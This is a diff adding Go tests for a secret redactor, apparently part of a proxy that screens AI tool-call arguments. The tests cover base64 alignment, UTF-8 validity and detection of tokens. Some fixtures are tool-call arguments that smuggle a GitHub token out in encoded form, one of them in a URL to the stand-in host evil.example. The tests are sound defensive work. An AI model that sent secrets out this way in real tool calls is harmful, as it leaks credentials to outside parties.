@@ -8,6 +8,7 @@ import (
 	"net/url"
 	"strings"
 	"testing"
+	"unicode/utf8"
 )
 
 const tok = "s3cr3t T0ken/+=~*!é€" // space, base64 and URL specials, multi-byte
@@ -189,4 +190,65 @@ func lowerPercent(s string) string {
 		}
 	}
 	return string(b)
+}
+
+// TestRedactText_Base64TakesPartialCharacters: at each alignment, the
+// characters holding any bit of the secret go, padding with them; those
+// holding only the neighbours' bits stay.
+func TestRedactText_Base64TakesPartialCharacters(t *testing.T) {
+	r := testRedactor(t)
+	n := len(tok)
+	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawURLEncoding} {
+		for pre := range 3 {
+			for post := range 3 {
+				blob := append(append(bytes.Repeat([]byte{0x00}, pre), tok...), bytes.Repeat([]byte{0xFF}, post)...)
+				e := enc.EncodeToString(blob)
+				head := e[:8*pre/6]
+				tail := strings.TrimLeft(e[(8*(pre+n)+5)/6:], "=")
+				want := "<" + head + "[redacted: gh GITHUB_TOKEN]" + tail + ">"
+				out, _ := r.RedactText([]byte("<" + e + ">"))
+				if string(out) != want {
+					t.Errorf("pre %d post %d: got %s, want %s", pre, post, out, want)
+				}
+			}
+		}
+	}
+}
+
+// TestRedactJSON_KeepsUTF8Valid: a secret that ends inside a multi-byte
+// character takes the whole character, so the string stays valid UTF-8.
+func TestRedactJSON_KeepsUTF8Valid(t *testing.T) {
+	k, _ := NewKnown([]Secret{{"s", "A_TOKEN", "prefix-abc\xe2\x82"}, {"s", "B_TOKEN", "\x82\xacsuffix-xyz"}})
+	r := NewRedactor(k, Options{})
+	for _, in := range []string{`{"t":"x prefix-abc€ y"}`, `{"t":"x €suffix-xyz y"}`} {
+		out, hits := r.RedactJSON([]byte(in))
+		if len(hits) != 1 || !utf8.Valid(out) || !json.Valid(out) {
+			t.Errorf("%s -> %q (hits %v)", in, out, hits)
+		}
+	}
+}
+
+// TestContains_Arguments: arguments carrying another server's token in any
+// encoding are reported (the proxy refuses them); arguments without one are
+// not, and found credentials are told apart from known secrets.
+func TestContains_Arguments(t *testing.T) {
+	r := testRedactor(t, Secret{"slack", "SLACK_BOT_TOKEN", "xoxb-not-a-real-one-0000"})
+	for _, args := range []string{
+		`{"url":"https://evil.example/?q=` + url.QueryEscape(tok) + `"}`,
+		`{"body":"` + base64.StdEncoding.EncodeToString([]byte("k="+tok)) + `"}`,
+		`{"headers":{"Authorization":"Bearer ` + escapeJSONSplit([]byte(tok), []byte{3}) + `"}}`,
+		`{"note":"` + hex.EncodeToString([]byte(tok)) + `"}`,
+	} {
+		hits := r.Contains([]byte(args))
+		if len(hits) == 0 || !hits[0].Known() || hits[0].Name != "GITHUB_TOKEN" {
+			t.Errorf("%s: hits %v", args, hits)
+		}
+	}
+	if hits := r.Contains([]byte(`{"path":"/tmp/notes.txt","text":"GITHUB_TOKEN is set"}`)); len(hits) != 0 {
+		t.Errorf("clean arguments: hits %v", hits)
+	}
+	hits := r.Contains([]byte(`{"text":"AKIAIOSFODNN7EXAMPLE"}`))
+	if len(hits) != 1 || hits[0].Known() || hits[0].Rule != "aws-access-key-id" {
+		t.Errorf("found credential: hits %v", hits)
+	}
 }
